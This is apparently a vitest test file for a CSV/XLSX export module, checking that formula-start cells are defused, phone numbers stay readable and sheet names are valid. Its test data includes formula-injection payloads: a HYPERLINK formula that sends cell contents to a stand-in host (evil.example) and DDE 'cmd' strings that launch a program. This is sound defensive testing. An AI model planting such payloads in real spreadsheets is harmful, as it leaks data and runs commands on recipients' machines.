import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { defuseCell, phoneCell, restoreCell } from "~/server/export/cells";
import { parseCsv, toCsv } from "~/server/export/csv";
import { exportTable, exportTables } from "~/server/export/file";
import { readXlsx, sheetNames, writeXlsx } from "~/server/export/xlsx";

/** What an attacker would put in a name or a description; one per character spreadsheets treat as a formula start. */
const DANGEROUS = [
  ["=", '=HYPERLINK("https://evil.example/?"&A1,"Открыть")'],
  ["+", "+cmd|' /C calc'!A0"],
  ["-", "-2+3+cmd|' /C calc'!A0"],
  ["@", "@SUM(1+9)*cmd|' /C calc'!A0"],
  ["tab", "\t=1+1"],
  ["CR", "\r=1+1"],
  ["LF", "\n=1+1"],
] as const;

async function sheetOf(bytes: Uint8Array) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

describe("defuseCell", () => {
  it.each(DANGEROUS)("puts an apostrophe before a cell starting with %s, in CSV and XLSX", (_, value) => {
    expect(defuseCell(value, "csv")).toBe(`'${value}`);
    expect(defuseCell(value, "xlsx")).toBe(`'${value}`);
    expect(restoreCell(defuseCell(value, "csv"))).toBe(value);
  });

  it("leaves plain text and plain numbers alone", () => {
    for (const v of ["Кедров Олег", "", "-5", "-1,5", "12.5", "a=b", "8 (912) 345-67-89", "'уже с апострофом"]) {
      expect(defuseCell(v, "csv")).toBe(v);
      expect(defuseCell(v, "xlsx")).toBe(v);
    }
    expect(defuseCell("-1+2", "csv")).toBe("'-1+2");
  });

  it("keeps an international phone number readable in XLSX, and defused in CSV", () => {
    expect(defuseCell("+49 30 1234567", "xlsx")).toBe("+49 30 1234567");
    expect(defuseCell("+1 (202) 555-01-23", "xlsx")).toBe("+1 (202) 555-01-23");
    expect(defuseCell("+49 30 1234567", "csv")).toBe("'+49 30 1234567");
    // Anything beyond digits, spaces, brackets and hyphens is not a phone number.
    expect(defuseCell("+7 912 SUM(1)", "xlsx")).toBe("'+7 912 SUM(1)");
    expect(defuseCell("+7|cmd", "xlsx")).toBe("'+7|cmd");
  });
});

describe("CSV", () => {
  it.each(DANGEROUS)("defuses a cell starting with %s and reads it back as written", (_, value) => {
    const csv = toCsv([["ФИО"], [value]]);
    const line = csv.slice(1).split("\r\n")[1]!;
    // The first character Excel sees is a quote or an apostrophe, never the formula's.
    expect(line.replace(/^"/, "")[0]).toBe("'");
    expect(parseCsv(csv)).toEqual([["ФИО"], [value]]);
  });

  it("writes UTF-8 with a BOM, semicolons and CRLF, quoting separators, quotes, line breaks and edge spaces", () => {
    const csv = toCsv([
      ["a;b", 'say "hi"', "line\nbreak", " lead", "trail ", 3, null],
      ["plain", "-5"],
    ]);
    expect(csv).toBe('\uFEFF"a;b";"say ""hi""";"line\nbreak";" lead";"trail ";3;\r\nplain;-5\r\n');
    expect(parseCsv(csv)).toEqual([
      ["a;b", 'say "hi"', "line\nbreak", " lead", "trail ", "3", ""],
      ["plain", "-5"],
    ]);
  });
});

describe("XLSX", () => {
  it.each(DANGEROUS)("writes a cell starting with %s as defused text, never a formula", async (_, value) => {
    const bytes = await writeXlsx([{ name: "Лист", header: ["ФИО"], rows: [[value]] }]);
    const cell = (await sheetOf(bytes)).getCell("A2");
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    // XML turns a bare CR into LF: the text that comes back has a line feed there.
    expect(cell.value).toBe(`'${value}`.replace(/\r/g, "\n"));
    // The import reads the platform's own files back as they were written.
    expect((await readXlsx(bytes))[1]).toEqual([value.replace(/\r/g, "\n")]);
  });

  it("keeps numbers as numbers and phones as people read them", async () => {
    const bytes = await writeXlsx([
      {
        name: "Участники",
        header: ["Телефон", "Места"],
        rows: [
          ["8 (912) 345-67-89", 30],
          ["+49 30 1234567", null],
        ],
      },
    ]);
    const sheet = await sheetOf(bytes);
    expect(sheet.getCell("A2").value).toBe("8 (912) 345-67-89");
    expect(sheet.getCell("B2").value).toBe(30);
    expect(sheet.getCell("A3").value).toBe("+49 30 1234567");
    expect(sheet.getCell("A3").type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
  });
});

describe("phone cells", () => {
  it("are readable in Excel without an apostrophe and never a formula, in CSV and XLSX", async () => {
    // Russian numbers come formatted nationally (8 …); others internationally (+375 …).
    expect(phoneCell("8 (912) 345-67-89", "csv")).toBe("8 (912) 345-67-89");
    expect(phoneCell("+375 29 123 45 67", "csv")).toBe("(+375) 29 123 45 67");
    expect(phoneCell("+375 29 123 45 67", "xlsx")).toBe("+375 29 123 45 67");
    // A stored value that is not a phone is still defused.
    expect(phoneCell("+7|cmd", "csv")).toBe("'+7|cmd");
    expect(phoneCell('=HYPERLINK("x")', "xlsx")).toBe(`'=HYPERLINK("x")`);
    const csv = toCsv([["Телефон"], [{ phone: "+375 29 123 45 67" }], [{ phone: "8 (912) 345-67-89" }]]);
    expect(csv).toBe("\uFEFFТелефон\r\n(+375) 29 123 45 67\r\n8 (912) 345-67-89\r\n");
    expect(csv).not.toContain("'");
    const sheet = await sheetOf(
      await writeXlsx([{ name: "Л", header: ["Телефон"], rows: [[{ phone: "+375 29 123 45 67" }]] }]),
    );
    expect(sheet.getCell("A2").value).toBe("+375 29 123 45 67");
    expect(sheet.getCell("A2").type).toBe(ExcelJS.ValueType.String);
  });
});

describe("exportTable", () => {
  const table = { title: "Участники", header: ["ФИО"], rows: [["=1+1"]] };

  it("writes CSV with one header row", async () => {
    const file = await exportTable(table, "csv");
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    expect(file.body).toBe("\uFEFFФИО\r\n'=1+1\r\n");
  });

  it("writes XLSX with the title as the sheet's name", async () => {
    const file = await exportTable(table, "xlsx");
    const sheet = await sheetOf(file.body as Uint8Array);
    expect(sheet.name).toBe("Участники");
    expect(sheet.getCell("A1").value).toBe("ФИО");
    expect(sheet.getCell("A2").value).toBe("'=1+1");
  });

  it("writes several tables as sheets of one workbook (CSV: the first), with names Excel accepts", async () => {
    const tables = [
      { title: "Все записи", header: ["A"], rows: [["1"]] },
      { title: "Круглый стол: цифровая кафедра [2026] / итоги года", header: ["A"], rows: [["2"]] },
      { title: "Круглый стол: цифровая кафедра [2026] / итоги года", header: ["A"], rows: [["3"]] },
    ];
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      Buffer.from((await exportTables(tables, "xlsx")).body as Uint8Array) as unknown as ArrayBuffer,
    );
    const names = workbook.worksheets.map((w) => w.name);
    expect(names[0]).toBe("Все записи");
    expect(names.every((n) => n.length <= 31 && !/[:\\/?*[\]]/.test(n))).toBe(true);
    expect(new Set(names).size).toBe(3);
    expect(workbook.worksheets[2]!.getCell("A2").value).toBe("3");
    expect((await exportTables(tables, "csv")).body).toBe("\uFEFFA\r\n1\r\n");
    expect(sheetNames(["'x'", "X", "x"])).toEqual(["x", "X (2)", "x (3)"]);
  });
});
